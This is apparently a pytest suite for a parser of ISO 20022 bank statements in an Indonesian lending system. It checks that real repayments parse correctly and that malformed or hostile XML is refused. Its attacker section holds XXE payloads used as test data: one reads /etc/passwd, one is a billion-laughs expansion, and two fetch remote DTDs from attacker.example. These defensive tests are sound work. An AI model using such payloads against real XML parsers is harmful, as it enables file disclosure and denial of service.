"""Statements as ISO 20022 messages: what a bank sends, and what an attacker sends."""

from contextlib import suppress
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pulang.base.errors import Refused
from pulang.lending.iso20022 import MessageRefused
from pulang.lending.statements import read
from pulang.lending.statements.refusals import DoesNotAddUp, Twice

POOL = "0101234567"


def entry(
    amount="5163986",
    *,
    reference="BNTT-1",
    direction="CRDT",
    currency="IDR",
    details="",
    status="<Sts>BOOK</Sts>",
    day="<Dt>2026-02-02</Dt>",
    extra="",
):
    return (
        f'<Ntry><Amt Ccy="{currency}">{amount}</Amt><CdtDbtInd>{direction}</CdtDbtInd>{extra}{status}'
        f"<BookgDt>{day}</BookgDt><AcctSvcrRef>{reference}</AcctSvcrRef>"
        f"<NtryDtls>{details}</NtryDtls></Ntry>"
    )


MARIA = """<TxDtls><Refs><EndToEndId>NOTPROVIDED</EndToEndId></Refs><RltdPties>
<Dbtr><Nm>MARIA  BETE
TAEK</Nm></Dbtr><CdtrAcct><Id><Othr><Id>8808000000001234</Id></Othr></Id></CdtrAcct></RltdPties>
<RmtInf><Ustrd>ANGSURAN 1</Ustrd><Ustrd>PINJAMAN</Ustrd></RmtInf></TxDtls>"""
MARIA_V8 = MARIA.replace("<Nm>", "<Pty><Nm>").replace("</Nm>", "</Nm></Pty>")


def statement(*entries, version=2, opening="1000000", closing="", name="camt.053", prologue=""):
    def balance(code, amount):
        return (
            f"<Bal><Tp><CdOrPrtry><Cd>{code}</Cd></CdOrPrtry></Tp>"
            f'<Amt Ccy="IDR">{amount}</Amt><CdtDbtInd>CRDT</CdtDbtInd></Bal>'
        )

    body, part = {
        "camt.053": ("BkToCstmrStmt", "Stmt"),
        "camt.054": ("BkToCstmrDbtCdtNtfctn", "Ntfctn"),
    }[name]
    balances = balance("OPBD", opening) + balance("CLBD", closing) if closing else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prologue}'
        f'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:{name}.001.{version:02d}"><{body}>'
        f"<GrpHdr><MsgId>M1</MsgId></GrpHdr><{part}><Id>S-20260202</Id>"
        f"<Acct><Id><Othr><Id>{POOL}</Id></Othr></Id><Ccy>IDR</Ccy></Acct>{balances}"
        f"{''.join(entries)}</{part}></{body}></Document>"
    ).encode()


# --- what a bank sends ---


def test_a_repayment_is_read_with_payer_virtual_account_and_text():
    (found,) = read(statement(entry(details=MARIA), closing="6163986"))
    (line,) = found.lines

    assert (found.format, found.account, found.opening, found.closing) == (
        "camt.053",
        POOL,
        1_000_000,
        6_163_986,
    )
    assert (line.reference, line.booked_on) == ("BNTT-1", date(2026, 2, 2))
    assert (line.amount, line.is_credit, line.problem) == (5_163_986, True, "")
    assert line.payer_name == "MARIA BETE TAEK"
    assert line.virtual_account == "8808000000001234"
    assert line.remittance_text == "ANGSURAN 1 PINJAMAN"


@pytest.mark.parametrize("version", range(2, 9))
def test_all_versions_from_02_to_08_are_read(version):
    status = "<Sts>BOOK</Sts>" if version < 4 else "<Sts><Cd>BOOK</Cd></Sts>"
    details = MARIA if version < 8 else MARIA_V8

    (found,) = read(statement(entry(status=status, details=details), version=version))

    assert found.lines[0].payer_name == "MARIA BETE TAEK"


def test_a_notification_has_no_balances():
    (found,) = read(statement(entry(details=MARIA), name="camt.054"))

    assert (found.format, found.opening, found.closing) == ("camt.054", None, None)
    assert found.lines[0].reference == "BNTT-1"  # as in the statement of the same day


def test_payments_in_one_booking_are_told_apart():
    def part(amount):
        return f'<TxDtls><AmtDtls><TxAmt><Amt Ccy="IDR">{amount}</Amt></TxAmt></AmtDtls></TxDtls>'

    (found,) = read(statement(entry("700", details=part(300) + part(400))))

    assert [(one.reference, one.amount) for one in found.lines] == [
        ("BNTT-1/1", 300),
        ("BNTT-1/2", 400),
    ]


def test_payments_in_one_booking_without_amounts_wait_for_a_person():
    (found,) = read(statement(entry("700", details="<TxDtls/><TxDtls/>")))

    assert [(one.amount, bool(one.problem)) for one in found.lines] == [(700, True)]


def test_what_is_not_booked_yet_is_left_out():
    waiting = entry(reference="BNTT-2", status="<Sts>PDNG</Sts>")

    (found,) = read(statement(entry(), waiting, closing="6163986"))

    assert [one.reference for one in found.lines] == ["BNTT-1"]


def test_a_moment_of_another_zone_is_a_day_in_kupang():
    (found,) = read(statement(entry(day="<DtTm>2026-02-01T20:00:00Z</DtTm>")))

    assert found.lines[0].booked_on == date(2026, 2, 2)


def test_a_payment_out_and_a_reversal_are_seen():
    back = entry(direction="DBIT", extra="<RvslInd>true</RvslInd>")

    (found,) = read(statement(back, opening="6163986", closing="1000000"))

    assert (found.lines[0].is_credit, found.lines[0].is_reversal) == (False, True)


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"currency": "USD"}, "USD"),
        ({"amount": "1500000.50"}, "parts of a rupiah"),
        ({"amount": "0"}, "at least one rupiah"),
    ],
)
def test_a_line_that_cannot_be_booked_says_why_and_the_others_stay(changed, said):
    (found,) = read(statement(entry(**changed), entry(reference="BNTT-2")))

    assert said in found.lines[0].problem
    assert not found.lines[1].problem


def test_the_same_entry_number_in_two_statements_is_not_the_same_booking():
    numbered = entry(reference="").replace("<AcctSvcrRef></AcctSvcrRef>", "<NtryRef>1</NtryRef>")
    (first,) = read(statement(numbered))
    (second,) = read(statement(numbered).replace(b"S-20260202", b"S-20260203"))

    assert first.lines[0].reference != second.lines[0].reference


# --- what cannot be believed ---


def test_a_booking_that_stands_twice_is_refused():
    with pytest.raises(Twice, match="BNTT-1"):
        read(statement(entry(), entry()))


def test_a_statement_that_does_not_add_up_is_refused_with_the_sums():
    with pytest.raises(DoesNotAddUp, match=r"Rp1\.000\.000.*Rp5\.163\.986.*Rp9\.000\.000"):
        read(statement(entry(), closing="9000000"))


@pytest.mark.parametrize("amount", ["-5000", "1.500.000,00", "1,500,000.00", "NaN", "1e9", ""])
def test_an_amount_that_is_no_amount_of_a_message_is_refused(amount):
    with pytest.raises(MessageRefused):
        read(statement(entry(amount)))


@pytest.mark.parametrize(
    "data",
    [
        statement(entry(), version=1),
        statement(entry(), version=13),
        statement(entry()).replace(b"camt.053", b"camt.052"),
        statement(entry()).replace(b"<Dt>2026-02-02</Dt>", b"<Dt>2026-02-31</Dt>"),
        statement(entry()).replace(b"<Dt>2026-02-02</Dt>", b""),
        statement(entry()).replace(b">CRDT<", b">BOTH<"),
        statement(entry())[:-40],
        b"<html><body>Sesi berakhir</body></html>",
        b"<",
    ],
)
def test_what_is_no_statement_is_refused(data):
    with pytest.raises(Refused):
        read(data)


# --- what an attacker sends ---

SECRET = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE d [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
REMOTE = '<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">'
PARAMETER = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>'


@pytest.mark.parametrize("prologue", [SECRET, LAUGHS, REMOTE, PARAMETER, "<!DOCTYPE d>"])
@pytest.mark.parametrize("body", ["&x;", "&i;", "5000"])
def test_entities_and_document_types_are_refused_before_they_unfold(prologue, body):
    with pytest.raises(MessageRefused, match="document type"):
        read(statement(entry(body), prologue=prologue))


def test_an_undeclared_entity_is_refused():
    with pytest.raises(MessageRefused, match="well-formed"):
        read(statement(entry("&x;")))


def test_nesting_without_end_is_refused():
    with pytest.raises(MessageRefused, match="nested"):
        read(statement(entry(details="<a>" * 5000 + "</a>" * 5000)))


def test_a_file_without_measure_is_refused():
    with pytest.raises(MessageRefused, match="MB"):
        read(b"<" + b" " * (33 << 20))


def test_entries_of_a_foreign_namespace_are_not_bookings():
    hidden = '<x:Ntry xmlns:x="urn:other"><x:Amt Ccy="IDR">9</x:Amt></x:Ntry>'

    (found,) = read(statement(hidden, entry()))

    assert len(found.lines) == 1


@settings(max_examples=200)
@given(st.binary(max_size=300))
def test_no_bytes_are_a_bug(data):
    with suppress(Refused):
        read(data)


@pytest.mark.parametrize("encoding", ["U-F-8", "utf-32", "shift_jis", "big5", "\\x00"])
def test_letters_that_are_not_known_are_refused(encoding):
    good = statement(entry()).replace(b"UTF-8", encoding.encode(), 1)

    with pytest.raises(Refused):
        read(good)


@settings(max_examples=200)
@given(st.integers(0, 800), st.binary(min_size=1, max_size=4))
def test_no_damage_to_a_good_statement_is_a_bug(place, damage):
    good = statement(entry(details=MARIA), closing="6163986")
    with suppress(Refused):
        read(good[:place] + damage + good[place + len(damage) :])
